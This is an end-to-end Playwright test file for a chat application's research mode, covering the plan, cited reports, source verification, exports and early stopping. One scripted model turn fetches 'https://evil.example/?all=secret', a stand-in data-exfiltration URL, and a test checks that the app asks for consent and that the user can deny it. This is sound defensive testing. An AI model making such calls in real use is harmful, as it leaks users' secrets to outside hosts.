/**
 * Research with the real program: the button, the plan, the report with its citations, the sources, requesting the
 * report early.
 */
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { test } from "@playwright/test";
import { check } from "./axe.mjs";
import { hasValue, launch, openPage, until } from "./browser.mjs";
import { setUp } from "./people.mjs";
import { calls, pause, startGlasshouse, startModel, text, turn } from "./programs.mjs";

test.describe.configure({ mode: "serial" });

const json = (value) => text(JSON.stringify(value));
const note = (point, quote) => ({ point, quote });
const CASES = [
  {
    contains: "Open what the page says",
    turns: [
      turn(calls(["fetch_page", { url: "https://evil.example/?all=secret" }])),
      turn(text("It was not opened.")),
    ],
  },
  { contains: "What was to be found out:\n- Halfway", turns: [turn(pause(60_000), text("Never."))] },
  {
    contains: "Write the report now.",
    turns: [
      turn(
        text(
          "The walrus costs **400 euros** a year [1]; some say it sings [3]. Nobody knows [9].\n\n- It lives in the harbour [2].\n- It came in 1987 [2].",
          40,
        ),
      ),
    ],
  },
  {
    contains: "Slowly",
    turns: [turn(pause(60_000), json({ notes: [] }))],
  },
  {
    contains: "<source>\n# The walrus",
    turns: [
      turn(
        json({
          notes: [
            note("It costs 400 euros.", "costs 400 euros a year"),
            note("It sings at night.", "the walrus sings at night"),
            note("It lives in the harbour.", "walrus of the harbour"),
          ],
        }),
      ),
    ],
  },
  { contains: "are not in the source", turns: [turn(json({ notes: [] }))] },
  { contains: "<source>", turns: [turn(json({ notes: [] }))] },
  { contains: "Notes so far:\n[1]", turns: [turn(json({ done: true, queries: [] }))] },
  { contains: "Decide what to search", turns: [turn(json({ done: false, queries: ["walrus harbour"] }))] },
  {
    contains: "Plan the research",
    turns: [turn(json({ plan: ["What it costs", "Where it lives"], question: "" }))],
  },
];

let browser, glasshouse, model, page;

test.beforeAll(async () => {
  [browser, glasshouse, model] = await Promise.all([launch(), startGlasshouse(), startModel(CASES)]);
  page = await openPage(browser, { url: glasshouse.url });
  await setUp(page);
  const headers = { origin: glasshouse.url };
  await page.request.post(`${glasshouse.url}/api/v1/connections`, {
    data: { name: "Scripted", base_url: model.url },
    headers,
  });
  const made = await page.request.post(`${glasshouse.url}/api/v1/knowledge`, {
    data: { name: "Work" },
    headers,
  });
  const { id } = await made.json();
  const documents = `${glasshouse.url}/api/v1/knowledge/${id}/documents`;
  for (const [name, content] of [
    ["walrus.md", "# The walrus\n\nThe walrus of the harbour costs 400 euros a year.\n"],
    ["harbour.md", "# The harbour\n\nThe harbour has a walrus and six boats.\n"],
  ]) {
    await page.request.post(`${documents}?name=${name}`, { data: Buffer.from(content), headers });
  }
  for (let ready = 0; ready < 2;) {
    const all = await (await page.request.get(documents)).json();
    ready = all.documents.filter((document) => document.state === "ready").length;
  }
  await page.goto("/");
});
test.afterAll(async () => {
  await browser?.close();
  await Promise.all([glasshouse?.stop(), model?.stop()]);
});

const button = () => page.locator("[data-mode]");
const modeOf = () => button().getAttribute("data-mode");
const box = () => page.getByLabel("Message", { exact: true });

async function pictures(name) {
  const folder = process.env.E2E_PICTURES;
  if (!folder) return;
  for (const [size, width, height] of [
    ["desktop", 1440, 900],
    ["phone", 390, 844],
  ]) {
    await page.setViewportSize({ width, height });
    for (const colorScheme of ["light", "dark"]) {
      await page.emulateMedia({ colorScheme });
      await page.waitForTimeout(150);
      await page.screenshot({ path: `${folder}/research-${name}-${size}-${colorScheme}.png` });
    }
  }
  await page.emulateMedia({ colorScheme: "light" });
  await page.setViewportSize({ width: 1440, height: 900 });
}

test("the button goes through its three states, and goes off where one goes elsewhere", async () => {
  await button().waitFor();
  const seen = [];
  for (let press = 0; press < 3; press += 1) {
    await button().click();
    seen.push(await modeOf());
  }
  assert.deepEqual(seen, ["research", "deep", "chat"]);
  await button().click();
  await page.reload();
  await button().waitFor();
  assert.equal(await modeOf(), "research", "a reload keeps it");
  await box().press("Escape");
  assert.equal(await modeOf(), "chat");
  await button().click();
  await page.goto("/knowledge");
  await page.getByRole("heading", { name: "Knowledge" }).waitFor();
  await page.goBack();
  await button().waitFor();
  assert.equal(await modeOf(), "chat", "another page that is loaded switches it off");
  await button().click();
  await page.getByRole("button", { name: "New chat" }).click();
  assert.equal(await modeOf(), "chat", "a new chat begins without it");
  await button().click();
  await page.locator('a[href="/knowledge"]').first().click();
  await page.getByRole("heading", { name: "Knowledge" }).waitFor();
  await page.goBack();
  await button().waitFor();
  assert.equal(await modeOf(), "chat", "and so does whoever comes from another page");
});

test("document 003: an address of another chat that is typed in the same tab resets research", async () => {
  const chat = async (title) => {
    const headers = { origin: glasshouse.url };
    const made = await page.request.post(`${glasshouse.url}/api/v1/chats`, { data: { title }, headers });
    return `/c/${(await made.json()).id}`;
  };
  const [one, other] = [await chat("One"), await chat("Other")];
  const turnOn = async (address) => {
    await page.goto(address);
    await button().waitFor();
    while ((await modeOf()) !== "research") await button().click();
  };
  for (const [from, to] of [
    [one, other],
    [one, "/"],
    ["/", one],
  ]) {
    await turnOn(from);
    await page.goto(to);
    await button().waitFor();
    assert.equal(await modeOf(), "chat", `from ${from} to ${to}`);
    await page.goBack();
    await button().waitFor();
    assert.equal(await modeOf(), "chat", `and back from ${to} to ${from}`);
  }
  await turnOn(one);
  await page.reload();
  await button().waitFor();
  assert.equal(await modeOf(), "research", "a reload of the same chat keeps it");
  await page.goto("/");
  await button().waitFor();
});

test("the plan waits, the report cites, and each citation leads to its words", async () => {
  while ((await modeOf()) !== "research") await button().click();
  await pictures("button");
  await box().fill("What does the walrus cost?");
  await box().press("Enter");
  const plan = page.getByLabel("Plan, one item per line");
  await plan.waitFor();
  await hasValue(plan, "What it costs\nWhere it lives");
  // No notice for a user who is looking at the waiting run.
  await page
    .getByRole("button", { name: "Open", exact: true })
    .waitFor({ state: "detached", timeout: 3_000 });
  await pictures("plan");
  await check(page, "the plan that waits");
  await plan.fill("What it costs\nWhere it lives\nWhether it sings");
  await page.getByRole("button", { name: "Start research", exact: true }).click();
  const sources = page.getByRole("region", { name: "Sources" });
  await sources.getByText("2 of 3 cited quotes match their source word for word.").waitFor();
  const answer = page.locator(".answer").last();
  assert.match(await answer.innerText(), /400 euros/);
  const cites = answer.locator("[data-cite]");
  await cites.nth(3).waitFor();
  assert.deepEqual(await cites.allInnerTexts(), ["1", "3", "2", "2"], "one that does not exist is not shown");
  assert.deepEqual(
    await answer.locator("[data-unverified]").allInnerTexts(),
    ["3"],
    "one without a quote shows it",
  );
  assert.deepEqual(
    await cites.evaluateAll((marks) => marks.map((mark) => mark.dataset.unconfirmed)),
    [undefined, undefined, undefined, "number"],
    "a number that the quote does not have",
  );
  await cites.nth(3).hover();
  await page.getByRole("tooltip").getByText("claim not confirmed: the quote lacks a number").waitFor();
  await pictures("claim");
  await cites.first().hover();
  await page.getByRole("tooltip").getByText("costs 400 euros a year").waitFor();
  await pictures("card");
  await cites.nth(1).hover();
  await page.getByRole("tooltip").getByText("Not verified").waitFor();
  await sources.getByRole("button", { name: /^Sources/ }).click();
  await sources.getByRole("button", { name: "Cited (3)" }).waitFor();
  await pictures("sources");
  await check(page, "the report and its sources");
  const [opened] = await Promise.all([page.context().waitForEvent("page"), cites.first().click()]);
  await opened.locator("article mark").first().waitFor();
  assert.equal(await opened.locator("article mark").first().innerText(), "costs 400 euros a year");
  await opened.close();
});

test("the report is taken along", async () => {
  const sources = page.getByRole("region", { name: "Sources" });
  const saved = async (name) => {
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      sources.getByRole("button", { name }).click(),
    ]);
    return readFile(await download.path(), "utf8");
  };
  const markdown = await saved("Markdown");
  assert.match(markdown, /400 euros/);
  assert.match(markdown, /> costs 400 euros a year/);
  const html = await saved("HTML");
  assert.match(html, /<blockquote>costs 400 euros a year<\/blockquote>/);
  assert.match(markdown, /It lives in the harbour \[2\]\.\n- It came in 1987 \[2\?\]\./);
  for (const report of [markdown, html]) {
    assert.match(report, /Not verified: no matching quote in the source/);
    assert.match(report, /\[2\?\] Quote found, claim not confirmed: the quote lacks a number/);
  }
  // Our own export can be read back.
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    sources.getByRole("button", { name: "DOCX" }).click(),
  ]);
  const made = await (await page.request.post("/api/v1/knowledge", { data: { name: "Reports" } })).json();
  const documents = `/api/v1/knowledge/${made.id}/documents`;
  const put = await page.request.post(`${documents}?name=report.docx`, {
    data: await readFile(await download.path()),
  });
  const { id } = await put.json();
  const word = await until("the report is read", async () => {
    const document = await (await page.request.get(`${documents}/${id}`)).json();
    return document.state === "ready" && document;
  });
  assert.match(word.text, /400 euros/);
  assert.match(word.text, /costs 400 euros a year/);
  assert.match(word.text, /It came in 1987.*2\?/);
  await page.request.delete(`/api/v1/knowledge/${made.id}`);
});

test("printed, it stands alone", async () => {
  await page.evaluate(() => {
    window.print = () => (document.body.dataset.printed = "yes");
  });
  await page.getByRole("region", { name: "Sources" }).getByRole("button", { name: "PDF" }).click();
  assert.equal(await page.evaluate(() => document.body.dataset.printed), "yes");
  await page.emulateMedia({ media: "print" });
  const sheet = page.locator(".print-sheet");
  await sheet.getByText("400 euros").first().waitFor();
  assert.equal(await page.getByRole("button", { name: "New chat" }).isVisible(), false);
  assert.equal(await sheet.locator("blockquote").first().isVisible(), true);
  assert.deepEqual(await sheet.locator("[data-unconfirmed]").allTextContents(), ["2?"]);
  await sheet.getByText("[2?] Quote found, claim not confirmed").waitFor();
  const folder = process.env.E2E_PICTURES;
  if (folder) {
    await page.pdf({ path: `${folder}/research-report.pdf` });
    await page.screenshot({ path: `${folder}/research-print.png` });
  }
  await page.emulateMedia({ media: null });
  await page.evaluate(() => dispatchEvent(new Event("afterprint")));
  assert.equal(await sheet.count(), 0);
});

test("after a reload all is there, and the steps show the turns", async () => {
  await page.reload();
  await page.getByRole("region", { name: "Sources" }).getByText("2 of 3 cited").waitFor();
  await page.locator("[data-steps-toggle]").last().press("Enter");
  await page.getByText("Round 1", { exact: true }).waitFor();
  await pictures("steps");
});

test("who stops it gets what it knows", async () => {
  await page.goto("/");
  while ((await modeOf()) !== "research") await button().click();
  await box().fill("What does the walrus cost here?");
  await box().press("Enter");
  await page.getByLabel("Plan, one item per line").fill("Halfway\nWhat it costs");
  await page.getByRole("button", { name: "Start research", exact: true }).click();
  await page.getByText("Writing the report…").first().waitFor();
  await page.getByRole("button", { name: "Stop", exact: true }).click();
  const answer = page.locator(".answer").last();
  await answer.getByText("It costs 400 euros.").waitFor();
  assert.deepEqual(await answer.locator("[data-cite]").allInnerTexts(), ["1", "2", "3"]);
  await page.getByRole("region", { name: "Sources" }).getByText("2 of 3 cited").waitFor();
  await pictures("stopped");
});

test("an address that nobody has named says why it asks", async () => {
  await page.goto("/");
  while ((await modeOf()) !== "chat") await button().click();
  await box().fill("Open what the page says");
  await box().press("Enter");
  const card = page.getByRole("region", { name: /^Open a page of evil\.example/ });
  await card.getByText("This URL came from neither you nor a search.").waitFor();
  await card.getByText("https://evil.example/?all=secret").waitFor();
  await pictures("consent");
  await check(page, "the card of an address that nobody has named");
  await page.goto("/inbox");
  await page.getByText("This URL came from neither you nor a search.").waitFor();
  await page.getByRole("button", { name: "Deny…" }).click();
  await page.getByRole("button", { name: "Deny", exact: true }).click();
  await page.getByText("This URL came from neither you nor a search.").waitFor({ state: "detached" });
});

test("who wants the report now gets it", async () => {
  await page.goto("/");
  while ((await modeOf()) !== "deep") await button().click();
  await box().fill("Slowly: what does the walrus cost?");
  await box().press("Enter");
  await page.getByRole("button", { name: "Skip review" }).click();
  await page.getByText(/Turn 1 - Reading/).waitFor();
  await page.getByText("Review skipped.").waitFor();
  await pictures("reading");
  await page.getByRole("button", { name: "Write report now" }).click();
  await page
    .getByText(/400 euros/)
    .last()
    .waitFor();
  await page.getByRole("button", { name: "Write report now" }).waitFor({ state: "detached" });
  // Sub-agents that were still reading were stopped, and did not fail.
  assert.doesNotMatch(await page.locator("[data-steps-toggle]").last().innerText(), /failed/);
  const grave = page.complaints.filter((complaint) => !complaint.includes("404"));
  assert.deepEqual(grave, []);
});
